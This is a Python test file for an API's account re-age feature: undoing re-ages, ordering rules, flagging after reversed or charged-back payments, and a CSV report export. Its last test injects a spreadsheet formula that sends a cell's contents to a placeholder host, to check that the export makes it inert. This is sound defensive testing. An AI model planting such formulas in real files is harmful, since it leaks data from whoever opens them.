"""Re-ages of an account's own clock: listed, flagged when money came back, taken back."""

import csv

import pytest

from app.schemas.reages.reages import ListedAccountReAgeRead, UndoneAccountReAgeRead
from tests.routers.lives.desk import OPENING
from tests.routers.reages.test_reages import RE_AGE, late
from tests.routers.reages.test_rejudging import come_back, re_aged, told

ASK = {"reason": "three payments", "documented_ability": True}
NOBODY = "rea_01h455vb4pex5vsknk084sn02q"


async def re_age_account(desk, account):
    return await desk.post(f"/v1/accounts/{account['id']}/re-ages", ASK)


async def undo(desk, account, re_age, *, status=200):
    path = f"/v1/accounts/{account['id']}/re-ages/{re_age['id']}/undo"
    return await desk.post(path, {"reason": "entered in error"}, status=status)


async def listed(desk, account):
    return (await desk.get(f"/v1/accounts/{account['id']}/re-ages"))["data"]


async def test_taken_back_it_is_reported_late_since_the_day_it_was(desk):
    account, plan = await late(desk)
    before = await desk.read(account)
    made = await re_age_account(desk, account)
    assert (await desk.read(account))["reported_since_on"] is None
    undone = await undo(desk, account, made)

    assert UndoneAccountReAgeRead.model_fields.keys() == undone.keys()
    assert (undone["id"], undone["undone_on"]) == (made["id"], "2026-02-20")
    assert undone["reported_since_on"] == before["reported_since_on"] == OPENING
    after = await desk.read(account)
    same = ("reported_since_on", "first_delinquency_on", "delinquency", "balance")
    assert [after[name] for name in same] == [before[name] for name in same]
    assert (await desk.read(plan))["revision"] == 1
    (one,) = await listed(desk, account)
    assert (one["id"], one["undone_on"], one["flagged_on"]) == (made["id"], "2026-02-20", None)
    found = [event["type"] for event in await told(desk, account, "re_age.undone", "plan.revised")]
    assert found == ["re_age.undone"]
    await desk.books_agree(account)


async def test_the_newest_that_stands_is_undone_first(desk):
    account, _ = await late(desk)
    first = await re_age_account(desk, account)
    await desk.at("2026-02-21")
    second = await re_age_account(desk, account)
    path = f"/v1/accounts/{account['id']}/re-ages"

    status, name, problem = await desk.refused("POST", f"{path}/{first['id']}/undo")
    assert (status, name) == (409, "not-the-newest-re-age")
    assert problem["newest_re_age_id"] == second["id"]
    await undo(desk, account, second)
    await undo(desk, account, first)
    again = await desk.refused("POST", f"{path}/{first['id']}/undo")
    assert again[:2] == (409, "not-the-newest-re-age")
    assert "newest_re_age_id" not in again[2]
    assert (await desk.refused("POST", f"{path}/{NOBODY}/undo"))[:2] == (404, "not-found")
    assert [one["undone_on"] for one in await listed(desk, account)] == ["2026-02-21"] * 2


async def test_a_plans_re_age_is_its_own(desk):
    account, plan = await late(desk)
    made = await desk.post(f"/v1/plans/{plan['id']}/re-ages", RE_AGE)
    path = f"/v1/accounts/{account['id']}/re-ages"

    assert await listed(desk, account) == []
    assert (await desk.refused("POST", f"{path}/{made['id']}/undo"))[:2] == (404, "not-found")
    missing = "/v1/accounts/acc_01h455vb4pex5vsknk084sn02q/re-ages"
    assert (await desk.refused("GET", missing))[:2] == (404, "not-found")


@pytest.mark.parametrize("how", ["reversed", "charged back"])
async def test_one_whose_payment_came_back_is_flagged_wherever_it_is_shown(desk, how):
    account, plan, payments, made = await re_aged(desk, "flag")
    of_account = await re_age_account(desk, account)
    await desk.at("2026-04-20")
    await come_back(desk, payments[1], how)
    await desk.at("2026-04-21")
    await desk.reverse(payments[2])  # it was flagged already: the first time counts

    flag = ("2026-04-20", payments[1]["id"])
    (one,) = (await desk.get(f"/v1/plans/{plan['id']}/re-ages"))["data"]
    assert (one["id"], one["flagged_on"], one["flagged_because"]) == (made["id"], *flag)
    (one,) = await listed(desk, account)
    assert ListedAccountReAgeRead.model_fields.keys() == one.keys()
    assert (one["id"], one["flagged_on"], one["flagged_because"]) == (of_account["id"], *flag)
    report = await desk.get("/v1/reports/re-ages")
    assert report["flagged"] == 2
    assert {(row["flagged_on"], row["flagged_because"]) for row in report["re_ages"]} == {flag}
    file = (await desk.client.get("/v1/reports/re-ages.csv")).text.splitlines()
    assert "flagged_on,flagged_because" in file[0]
    assert all(",".join(flag) in line for line in file[1:])


async def test_an_actor_that_begins_a_formula_is_inert_in_the_export(desk):
    account, _ = await late(desk)
    formula = '=HYPERLINK("http://x/?"&A1)'
    desk.client.headers["Accord-Actor"] = formula
    await re_age_account(desk, account)

    file = csv.DictReader((await desk.client.get("/v1/reports/re-ages.csv")).text.splitlines())
    assert [row["actor"] for row in file] == [f"'{formula}"]
